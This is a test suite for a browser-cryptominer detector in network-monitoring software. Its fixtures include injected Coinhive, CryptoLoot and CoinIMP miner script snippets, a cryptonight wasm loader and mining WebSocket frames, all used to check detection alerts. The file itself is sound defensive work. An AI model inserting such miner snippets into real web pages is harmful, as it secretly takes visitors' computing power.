import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { createBrowserMinerDetector, mayHoldMiner, PAGE_PATTERNS } from '../../src/detect/browser-miner.js';
import type { HostIntel } from '../../src/events/intel.js';
import { NO_INTEL } from '../../src/events/intel.js';
import { fakeFlow, msg, recordingContext } from './fixtures.js';

const te = new TextEncoder();
function resp(html: string, contentType = 'text/html; charset=utf-8') {
  return { status: 200, version: 'HTTP/1.1', headers: [], contentType, body: te.encode(html), bodyTruncated: false, contentEncoding: '', websocketUpgrade: false };
}
function req(host: string, uri = '/', websocketUpgrade = false) {
  return { method: 'GET', uri, host, userAgent: 'Mozilla/5.0', version: 'HTTP/1.1', headers: [], body: new Uint8Array(0), websocketUpgrade };
}

const NORMAL = '<!DOCTYPE html><html><head><title>News</title><script src="/static/app.js"></script></head><body><p>Hello</p><script>window.start = function(){}</script></body></html>';
// Shape of the MikroTik injection: miner script spliced in front of the original page.
const INJECTED = (key: string) => `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous('${key}');miner.start();</script>${NORMAL}`;

void test('browser-miner: injected Coinhive in front of a normal page: pattern, offset, placement, site key', () => {
  const det = createBrowserMinerDetector({ intel: NO_INTEL });
  const ctx = recordingContext();
  const flow = fakeFlow({ serverPort: 80 });
  det.onMessage!(msg('http', 'request', req('news.example')), flow, ctx);
  det.onMessage!(msg('http', 'response', resp(INJECTED('hsFAjjijTyibpVjCmfJzlfWH3hFqWVT3')), 1), flow, ctx);
  assert.equal(ctx.alerts.length, 1);
  const e = ctx.alerts[0].alert.evidence;
  assert.equal(ctx.alerts[0].alert.signatureId, 9100400);
  assert.equal(e.pattern, 'Coinhive/AuthedMine script');
  assert.equal(e.offset, INJECTED('hsFAjjijTyibpVjCmfJzlfWH3hFqWVT3').indexOf('coinhive.com/lib'));
  assert.match(String(e.placement), /before <html>/);
  assert.equal(e.siteKey, 'hsFAjjijTyibpVjCmfJzlfWH3hFqWVT3');
  assert.equal(e.started, true);
  assert.equal(e.site, 'news.example');
  assert.equal(ctx.alerts[0].alert.device?.ip, '192.168.1.10');
});

void test('browser-miner: the same key across 3 unrelated sites is reported as in-transit injection', () => {
  const det = createBrowserMinerDetector({ intel: NO_INTEL });
  const ctx = recordingContext();
  for (const site of ['news.example', 'shop.example', 'bank.example']) {
    const flow = fakeFlow();
    det.onMessage!(msg('http', 'request', req(site)), flow, ctx);
    det.onMessage!(msg('http', 'response', resp(INJECTED('KEYKEYKEYKEY1234')), 1), flow, ctx);
  }
  const inj = ctx.alerts.filter((a) => a.alert.signatureId === 9100405);
  assert.equal(inj.length, 1);
  assert.deepEqual(inj[0].alert.evidence.sites, ['news.example', 'shop.example', 'bank.example']);
});

void test('browser-miner: CryptoLoot constructor, CoinIMP Client.Anonymous, wasm; listed script host', () => {
  const intel: HostIntel = { matchDomain: (n) => (n === 'minerhost.example' ? { entry: n, list: 'nocoin', kind: 'browser-miner' } : null), matchIp: () => null };
  const det = createBrowserMinerDetector({ intel });
  const ctx = recordingContext();
  det.onMessage!(msg('http', 'response', resp('<html><body><script>var m = new CRLT.Anonymous("abcdefabcdef1234"); m.start();</script></body></html>'), 1), fakeFlow(), ctx);
  det.onMessage!(msg('http', 'response', resp('var _client = new Client.Anonymous(\'0123456789abcdef0123\', {throttle: 0.3}); _client.start();', 'application/javascript'), 1), fakeFlow(), ctx);
  det.onMessage!(msg('http', 'response', resp('self.importScripts("cryptonight.wasm.js"); WebAssembly.instantiate(buf)', 'text/javascript'), 1), fakeFlow(), ctx);
  det.onMessage!(msg('http', 'response', resp('<html><head><script src="//minerhost.example/x.js"></script></head></html>'), 1), fakeFlow(), ctx);
  assert.deepEqual(ctx.alerts.map((a) => a.alert.signatureId), [9100400, 9100400, 9100402, 9100401]);
  assert.equal(ctx.alerts[0].alert.evidence.pattern, 'miner constructor');
});

void test('browser-miner: WebSocket proxy upgrade and mining frames', () => {
  const det = createBrowserMinerDetector({ intel: NO_INTEL });
  const ctx = recordingContext();
  const flow = fakeFlow({ serverPort: 443 });
  det.onMessage!(msg('http', 'websocket', { uri: '/proxy0', host: 'ws027.coinhive.com', origin: 'https://x.example', userAgent: '', protocol: '', extensions: '' }), flow, ctx);
  const f2 = fakeFlow();
  det.onMessage!(msg('http', 'websocket_frame', { opcode: 1, fin: true, masked: false, compressed: false, length: 80, text: '{"type":"job","params":{"job_id":"123","blob":"0707","target":"ffffff00"}}', truncated: false }, 1), f2, ctx);
  assert.deepEqual(ctx.alerts.map((a) => a.alert.signatureId), [9100403, 9100404]);
});

void test('browser-miner: ordinary pages, chat WebSockets and pages about Coinhive are silent', () => {
  const det = createBrowserMinerDetector({ intel: NO_INTEL });
  const ctx = recordingContext();
  det.onMessage!(msg('http', 'response', resp(NORMAL), 1), fakeFlow(), ctx);
  det.onMessage!(msg('http', 'response', resp('<html><body><h1>Coinhive shut down in 2019</h1><p>The coinhive miner was popular.</p></body></html>'), 1), fakeFlow(), ctx);
  det.onMessage!(msg('http', 'websocket', { uri: '/socket.io/?EIO=4', host: 'chat.example', origin: '', userAgent: '', protocol: '', extensions: '' }), fakeFlow(), ctx);
  det.onMessage!(msg('http', 'websocket_frame', { opcode: 1, text: '{"type":"message","text":"submit your job application"}' }, 1), fakeFlow(), ctx);
  det.onMessage!(msg('http', 'response', resp('\x89PNG....binary', 'image/png'), 1), fakeFlow(), ctx);
  assert.equal(ctx.alerts.length, 0);
});

void test('anchor prefilter: every string any page pattern matches holds one of its anchors (generated from each expression, random case, random text around)', () => {
  for (const p of PAGE_PATTERNS) {
    // fast-check generates from case-sensitive expressions: case-insensitive ones get their
    // letters' case flipped at random afterwards, which keeps the string in the language. It
    // cannot generate for \b: without it the strings are a superset, and only those the real
    // expression matches are judged.
    const exact = new RegExp(p.re.source.replaceAll('\\b', ''), p.re.flags.replace('i', ''));
    const flip = p.re.flags.includes('i');
    const page = fc.tuple(fc.string({ maxLength: 40 }), fc.stringMatching(exact), fc.array(fc.boolean(), { minLength: 64, maxLength: 64 }), fc.string({ maxLength: 40 }))
      .map(([before, hit, upper, after]) => before + (flip ? [...hit].map((c, i) => (upper[i % 64] ? c.toUpperCase() : c.toLowerCase())).join('') : hit) + after);
    fc.assert(fc.property(page, (text) => {
      const bytes = Buffer.from(text, 'latin1');
      return !p.re.test(bytes.toString('latin1')) || mayHoldMiner(bytes);
    }), { numRuns: 300 });
  }
  assert.equal(mayHoldMiner(Buffer.from('<html><script src="/js/app.min.js"></script> new Client.Start() coin hive')), false);
});
